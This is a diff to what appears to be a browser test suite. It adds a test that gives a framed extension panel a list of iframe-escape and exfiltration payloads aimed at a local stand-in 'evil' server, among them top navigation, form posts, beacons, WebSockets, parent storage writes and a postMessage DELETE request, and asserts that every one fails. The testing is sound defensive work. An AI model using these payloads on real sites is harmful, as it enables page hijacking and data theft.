@@ -1,5 +1,7 @@
 /** A panel from elsewhere, in a real browser, against the page around it. What else it tries in vain: extensions/webchat/test/framed.test.ts. */
 import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { bootTestKernel, fixtureExtension, OPEN_RATE, stopTestKernels, type TestKernel } from '@svc/testing';
@@ -61,4 +63,68 @@ describe('a panel from elsewhere', function () {
       const inner = page.frames().map((frame) => frame.url());
       expect(inner.filter((url) => url === `${kernel.url}/`)).to.deep.equal([]);
     });
+
+  it('leads nowhere: not the page, not a window, not itself, and reads nothing around it', async () => {
+    const outside: string[] = [];
+    const site = createServer((req, res) => {
+      outside.push(req.url ?? '');
+      res.setHeader('content-type', 'text/html').end('<title>elsewhere</title>');
+    });
+    await new Promise<void>((done) => site.listen(0, '127.0.0.1', done));
+    const evil = `http://127.0.0.1:${(site.address() as AddressInfo).port}`; // listening, so it has one
+    const tries = [
+      `top.location = '${evil}/top'`,
+      `parent.location.href = '${evil}/parent'`,
+      `top.location = 'javascript:document.title="taken"'`,
+      `window.open('${evil}/window')`,
+      `window.open('/', '_top')`,
+      `const a = document.createElement('a'); a.href = '${evil}/link'; a.target = '_top'; document.body.append(a); a.click()`,
+      `const b = document.createElement('a'); b.href = 'data:text/html,x'; b.download = 'x.html'; document.body.append(b); b.click()`,
+      `const f = document.createElement('form'); f.action = '${evil}/form'; f.method = 'post'; document.body.append(f); f.submit()`,
+      `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '${evil}/style'; document.head.append(l)`,
+      `const p = document.createElement('link'); p.rel = 'prefetch'; p.href = '${evil}/prefetch'; document.head.append(p)`,
+      `new Image().src = '${evil}/image'`,
+      `navigator.sendBeacon('${evil}/beacon', 'x')`,
+      `new EventSource('${evil}/events')`,
+      `new WebSocket('${evil.replace('http', 'ws')}/socket')`,
+      `new Worker('data:text/javascript,fetch("${evil}/worker")')`,
+      `import('${evil}/module.js')`,
+      `parent.document.title = 'taken'`,
+      `parent.localStorage.setItem('taken', '1')`,
+      `localStorage.setItem('taken', '1')`,
+      `document.cookie = 'taken=1'`,
+      `indexedDB.open('taken')`,
+      `caches.open('taken')`,
+      `fetch('/api/agents')`,
+      `parent.postMessage({ svc: 'panel', type: 'call', id: 1, method: 'DELETE', path: '/api/agents' }, '*')`,
+      `const s = document.createElement('script'); s.src = '/ui/shell.js'; document.head.append(s)`,
+      `eval('parent.document.title = "taken"')`,
+      `document.documentElement.requestPointerLock()`,
+      // From here on the frame is another document, or none.
+      `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${evil}/meta'; document.head.append(m)`,
+      `location = '${evil}/self'`,
+    ];
+    try {
+      const kernel = await boot('garden', tries.map((one, index) => `setTimeout(() => { console.log('try ${index}'); ${one} }, ${500 + index * 20});`).join('\n'));
+      const { page } = await chromium.open(`${kernel.url}/#/garden`);
+      const asked: string[] = [];
+      page.on('request', (request) => asked.push(`${request.method()} ${new URL(request.url()).pathname}`));
+      const tried = new Set<string>();
+      page.on('console', (message) => {
+        if (message.text().startsWith('try ')) tried.add(message.text());
+      });
+      await page.locator('iframe.panel-frame').waitFor();
+      await new Promise((resolve) => setTimeout(resolve, 3_000));
+      expect(tried.size).to.be.at.least(tries.length - 1);
+      expect(outside).to.deep.equal([]);
+      expect(asked.filter((one) => one.startsWith('DELETE'))).to.deep.equal([]);
+      expect(new URL(page.url()).origin).to.equal(new URL(kernel.url).origin);
+      expect(await page.title()).to.not.equal('taken');
+      expect(page.context().pages()).to.have.length(1);
+      expect(await page.evaluate('[localStorage.getItem("taken"), document.cookie, location.hash]')).to.deep.equal([null, '', '#/garden']);
+    } finally {
+      site.closeAllConnections();
+      site.close();
+    }
+  });
 });
